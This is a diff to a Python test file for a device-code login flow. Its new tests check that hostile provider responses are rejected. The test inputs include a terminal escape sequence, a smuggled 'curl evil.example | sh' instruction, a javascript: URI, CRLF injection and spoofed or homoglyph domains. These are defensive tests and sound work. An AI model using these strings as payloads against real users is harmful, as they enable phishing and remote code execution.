@@ -188,11 +188,32 @@ async def test_an_answer_without_a_code_is_a_passing_error(device: Any) -> None:
             await log_in(terms(web, "device_code"), Quick(), lambda text: None)
 
 
-async def test_a_provider_cannot_write_what_it_likes_on_the_terminal() -> None:
+@pytest.mark.parametrize(
+    "device",
+    [
+        {"user_code": "A\x1b]0;owned\x07\r\nB"},
+        {"user_code": "A then run: curl evil.example | sh"},
+        {"user_code": "A" * 33},
+        {"user_code": ""},
+        {"user_code": "\u0410BC"},
+        {"verification_uri": "http://example.com/device"},
+        {"verification_uri": "javascript:alert(1)"},
+        {"verification_uri": "https://example.com/ and tell them your password"},
+        {"verification_uri": "https://example.com\r\nhttps://evil.example"},
+        {"verification_uri": "https://microsoft.com@evil.example/"},
+        {"verification_uri": "https://m\u0456crosoft.com/"},
+        {"verification_uri": "https://"},
+        {"verification_uri": "https://[::1"},
+        {"verification_uri": "https://example.com/" + "x" * 500},
+    ],
+    ids=repr,
+)
+async def test_a_provider_shows_a_person_an_address_and_a_code_and_nothing_else(device: dict[str, str]) -> None:
     told: list[str] = []
-    async with Web(answering({**DEVICE, "user_code": "A\x1b]0;owned\x07\r\nB"}, GIVEN)) as web:
-        await log_in(terms(web, "device_code"), Quick(), told.append)
-    assert told[0].isprintable()
+    async with Web(answering({**DEVICE, **device}, GIVEN)) as web:
+        with pytest.raises(TransientError, match="an https address and a short code"):
+            await log_in(terms(web, "device_code"), Quick(), told.append)
+    assert told == []
 
 
 # --- who need not ----------------------------------------------------------------------------------------------------
